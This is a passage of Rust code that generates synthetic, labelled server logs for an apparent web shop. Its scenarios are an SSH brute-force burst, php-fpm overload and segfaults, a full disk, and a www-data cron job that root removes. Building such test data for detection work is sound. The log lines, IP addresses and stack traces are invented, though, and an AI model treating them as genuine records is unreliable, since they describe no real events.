        cron_job(g, m + g.ms(0, 400), "www-data", 33, &cmd, dur, false, l);
        m += 10 * MIN;
    }
    let fix = g
        .sessions
        .iter()
        .flat_map(|s| s.sudo.iter())
        .find(|c| c.2 == "/usr/bin/crontab -r -u www-data" && c.0 > t)
        .map(|c| c.0);
    if let Some(f) = fix {
        let p = g.pid_at(f + 5 * MS);
        g.push(
            f + 5 * MS,
            "crontab",
            Some(p),
            "(root) DELETE (www-data)".to_owned(),
            l,
        );
        let p = g.pid_at(f - 2 * MIN + 5 * MS);
        g.push(
            f - 2 * MIN + 5 * MS,
            "crontab",
            Some(p),
            "(root) LIST (www-data)".to_owned(),
            l,
        );
    }
}

/// Password guessing from one address, many connections in a few minutes.
fn bruteforce(g: &mut Gen) {
    let l = Some("bruteforce");
    let ts = g.brute_ts.clone();
    for t0 in ts {
        let ip = g.public_ip();
        let mut t = t0;
        let mut port = g.r.range(30_000, 60_000);
        for _ in 0..g.r.range(15, 35) {
            let p = g.pid_at(t);
            port += g.r.range(2, 900);
            if port > 65_000 {
                port -= 30_000;
            }
            let user = g.r.pick(&[
                "root", "root", "root", "admin", "ubuntu", "test", "user", "oracle", "postgres",
                "git", "deploy", "ftpuser", "guest", "pi", "support", "shop",
            ]);
            let valid = matches!(user, "root" | "postgres" | "deploy");
            let mut at = t;
            let mut step = |g: &mut Gen, m: String| {
                at += g.ms(1, 1_500);
                g.push(at, "sshd", Some(p), m, l);
            };
            if valid {
                step(g, format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={user}"));
                step(
                    g,
                    format!("Failed password for {user} from {ip} port {port} ssh2"),
                );
                step(
                    g,
                    format!("Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"),
                );
                step(
                    g,
                    format!(
                        "Disconnected from authenticating user {user} {ip} port {port} [preauth]"
                    ),
                );
            } else {
                step(g, format!("Invalid user {user} from {ip} port {port}"));
                step(
                    g,
                    "pam_unix(sshd:auth): check pass; user unknown".to_owned(),
                );
                step(g, format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}"));
                step(
                    g,
                    format!("Failed password for invalid user {user} from {ip} port {port} ssh2"),
                );
                step(
                    g,
                    format!("Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"),
                );
                step(
                    g,
                    format!("Disconnected from invalid user {user} {ip} port {port} [preauth]"),
                );
            }
            t += g.ms(2_000, 25_000);
        }
    }
}

/// The evening peak saturates the pool: max_children, timeouts, then a restart by the admin.
fn upstream(g: &mut Gen) {
    let l = Some("upstream");
    let t0 = g.upstream_t;
    let restart = t0 + 14 * MIN;
    let master = g.fpm.at(t0);
    for k in 0..3 {
        let at = t0 + k * g.ms(120_000, 250_000);
        g.push(
            at,
            "php-fpm",
            Some(master),
            "[WARNING] [pool www] server reached pm.max_children setting (12), consider raising it"
                .to_owned(),
            l,
        );
    }
    let mut t = t0 + 60 * SEC + g.ms(0, 5_000);
    let paths = [
        "/",
        "/tee/schwarzer-tee",
        "/tee/gruener-tee",
        "/checkout/confirm",
        "/search?q=matcha",
        "/account/orders",
        "/tee/kraeutertee",
        "/sale",
    ];
    while t < restart - 5 * SEC {
        let (since, w) = g.nginx.since(t);
        let w = w + g.r.below(2) as u32;
        let conn = (t - since) / SEC / 3 + g.r.below(200);
        let ip = g.customer_ip();
        let path = g.r.pick(&paths);
        let method = if path.starts_with("/checkout") {
            "POST"
        } else {
            "GET"
        };
        g.push(t, "nginx", Some(w), format!("{} [error] {w}#{w}: *{conn} upstream timed out (110: Connection timed out) while reading response header from upstream, client: {ip}, server: {DOMAIN}, request: \"{method} {path} HTTP/2.0\", upstream: \"{FPM_UPSTREAM}\", host: \"{DOMAIN}\", referrer: \"https://{DOMAIN}/\"", ngx_time(t)), l);
        t += g.ms(3_000, 40_000);
    }
    fpm_restart(g, restart);
    let mut t = restart + 200 * MS;
    for _ in 0..g.r.range(3, 6) {
        let w = g.nginx.at(t) + g.r.below(2) as u32;
        let conn = g.r.range(20_000, 90_000);
        let ip = g.customer_ip();
        let path = g.r.pick(&paths);
        g.push(t, "nginx", Some(w), format!("{} [error] {w}#{w}: *{conn} connect() failed (111: Connection refused) while connecting to upstream, client: {ip}, server: {DOMAIN}, request: \"GET {path} HTTP/2.0\", upstream: \"{FPM_UPSTREAM}\", host: \"{DOMAIN}\"", ngx_time(t)), l);
        t += g.ms(100, 400);
    }
}

/// php-fpm children crash in a PHP extension; systemd-coredump catches them.
fn segfault(g: &mut Gen) {
    let l = Some("segfault");
    let mut t = g.segfault_t;
    let lib = g.r.pick(&["opcache.so", "redis.so", "imagick.so"]);
    for n in 0..g.r.range(2, 4) {
        let child = g.pid_at(t - g.ms(10_000, 2_000_000));
        let base = 0x7f00_0000_0000u64 + g.r.below(0xff_ffff) * 0x1000;
        let off = g.r.range(0x1_0000, 0x8_0000);
        let ip = base + off;
        let sp = 0x7ffc_0000_0000u64 + g.r.below(0xffff_ffff) / 16 * 16;
        let cpu = g.r.below(2);
        g.kern(t, format!("php-fpm8.2[{child}]: segfault at {:x} ip {ip:016x} sp {sp:016x} error 4 in {lib}[{base:x}+9c000] likely on CPU {cpu} (core {cpu}, socket 0)", g.r.range(8, 0x200)), l);
        g.kern(
            t,
            format!(
                "Code: {} <48> 8b 47 {} {}",
                (0..20).map(|_| g.r.hex(2)).collect::<Vec<_>>().join(" "),
                g.r.hex(2),
                (0..20).map(|_| g.r.hex(2)).collect::<Vec<_>>().join(" ")
            ),
            l,
        );
        let cd = g.pid_at(t + 5 * MS);
        let unit = format!("systemd-coredump@{n}-{cd}-0.service");
        g.sd(
            t + 10 * MS,
            format!("Started {unit} - Process Core Dump (PID {cd}/UID 0)."),
            l,
        );
        let stack: String = (0..4)
            .map(|i| {
                format!(
                    "\n#{i}  0x{:016x} n/a ({lib} + 0x{:x})",
                    ip + i * 0x1a0,
                    off + i * 0x1a0
                )
            })
            .collect();
        g.push(t + 900 * MS, "systemd-coredump", Some(cd + 1), format!("Process {child} (php-fpm8.2) of user 33 dumped core.\n\nModule {lib} from deb php8.2-opcache-8.2.20-1~deb12u1.amd64\nStack trace of thread {child}:{stack}\n#4  0x000055d0c1a2b3c4 execute_ex (php-fpm8.2 + 0x3b3c4)\nELF object binary architecture: AMD x86-64"), l);
        g.sd(
            t + 950 * MS,
            format!("{unit}: Deactivated successfully."),
            l,
        );
        let master = g.fpm.at(t);
        let life = (t - g.segfault_t.min(t)) / MS + g.r.range(10_000, 2_000_000);
        g.push(t + 20 * MS, "php-fpm", Some(master), format!("[WARNING] [pool www] child {child} exited on signal 11 (SIGSEGV - core dumped) after {}.{:06} seconds from start", life / 1000, life % 1000 * 1000 + g.r.below(1000)), l);
        let new = g.pid_at(t + 25 * MS);
        g.push(
            t + 25 * MS,
            "php-fpm",
            Some(master),
            format!("[NOTICE] [pool www] child {new} started"),
            None,
        );
        let (since, w) = g.nginx.since(t);
        let conn = (t - since) / SEC / 3 + g.r.below(200);
        let ip = g.customer_ip();
        g.push(t + 15 * MS, "nginx", Some(w), format!("{} [error] {w}#{w}: *{conn} recv() failed (104: Connection reset by peer) while reading response header from upstream, client: {ip}, server: {DOMAIN}, request: \"GET /tee/gruener-tee?page=2 HTTP/2.0\", upstream: \"{FPM_UPSTREAM}\", host: \"{DOMAIN}\"", ngx_time(t)), l);
        let bp = g.pid_at(t - g.ms(10_000, 2_000_000));
        g.pg(
            t + 30 * MS,
            bp,
            1,
            "shop@shop LOG:  could not receive data from client: Connection reset by peer"
                .to_owned(),
            l,
        );
        t += g.ms(120_000, 900_000);
    }
}

/// /var fills up: rsyslog, postgres, nginx and the shop cannot write until the admin cleans up.
fn disk_full(g: &mut Gen) {
    let l = Some("disk-full");
    let t0 = g.diskfull_t;
    let fix = g.diskfull_fix_t;
    let rs = g.rsyslog;
    g.push(t0, "rsyslogd", Some(rs), "file '/var/log/syslog': write error - see https://www.rsyslog.com/solving-rsyslog-write-errors/ for help OS error: No space left on device [v8.2302.0 try https://www.rsyslog.com/e/2027 ]".to_owned(), l);
    g.push(t0 + MS, "rsyslogd", Some(rs), "action 'action-1-builtin:omfile' suspended (module 'builtin:omfile'), retry 0. There should be messages before this one giving the reason for suspension. [v8.2302.0 try https://www.rsyslog.com/e/2007 ]".to_owned(), l);
    let mut t = t0 + g.ms(60_000, 900_000);
    while t < fix {
        let bp = g.pid_at(t - g.ms(60_000, 3_600_000));
        let file = g.r.range(16_400, 16_900);
        let tables = ["cart", "order", "order_line_item", "customer_session"];
        let table = g.r.pick(&tables);
        g.pg(t, bp, 1, format!("shop@shop ERROR:  could not extend file \"base/16385/{file}\": No space left on device"), l);
        g.pg(
            t,
            bp,
            2,
            "shop@shop HINT:  Check free disk space.".to_owned(),
            l,
        );
        g.pg(t, bp, 3, format!("shop@shop STATEMENT:  INSERT INTO {table} (id, version_id, created_at) VALUES ($1, $2, $3)"), l);
        if g.r.chance(0.5) {
            let (since, w) = g.nginx.since(t);
            let conn = (t - since) / SEC / 3 + g.r.below(200);
            let ip = g.customer_ip();
            let n = g.r.range(1_000, 99_999);
            g.push(t + g.ms(100, 60_000), "nginx", Some(w), format!("{} [crit] {w}#{w}: *{conn} pwrite() \"/var/lib/nginx/fastcgi/{}/{:02}/00000{n:05}\" failed (28: No space left on device) while reading upstream, client: {ip}, server: {DOMAIN}, request: \"GET /export/orders.csv HTTP/2.0\", upstream: \"{FPM_UPSTREAM}\", host: \"{DOMAIN}\"", ngx_time(t), n % 10, n % 100), l);
        }
        if g.r.chance(0.4) {
            let p = g.pid_at(t - g.ms(60_000, 3_600_000));
            let rel = g.release(t);
            g.push(t + g.ms(100, 60_000), "shop", Some(p), format!("app.ERROR: Warning: file_put_contents(): Only 0 of {} bytes written, possibly out of free disk space {{\"file\":\"/var/www/shop/releases/{rel}/var/cache/prod/http_cache/md/{}\"}} []", g.r.range(800, 9_000), g.r.hex(2)), l);
        }
        t += g.ms(240_000, 1_500_000);
    }
    g.push(fix + g.ms(1_000, 20_000), "rsyslogd", Some(rs), "action 'action-1-builtin:omfile' resumed (module 'builtin:omfile') [v8.2302.0 try https://www.rsyslog.com/e/2359 ]".to_owned(), l);
}
